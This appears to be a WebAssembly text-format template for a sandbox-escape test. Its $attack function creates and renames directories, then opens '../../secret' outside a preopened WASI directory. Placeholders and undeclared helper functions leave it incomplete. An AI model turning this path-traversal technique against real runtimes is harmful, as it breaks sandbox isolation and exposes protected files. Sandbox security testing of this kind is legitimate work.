(module
  ;; prelude
  (data (i32.const 1024) "<write>/a/b\00")
  (data (i32.const 1056) "<write>/b\00")
  (data (i32.const 1088) "../../secret\00")
  (func $attack (result i32)
    (drop (call $folder (i32.const <write_fd>) (i32.const 1024)))
    (drop (call $path_rename
      (i32.const <write_fd>) (i32.const 1024) (call $length (i32.const 1024))
      (i32.const <write_fd>) (i32.const 1056) (call $length (i32.const 1056))))
    (call $open (global.get $fd) (i32.const 1088) (i32.const 0))))
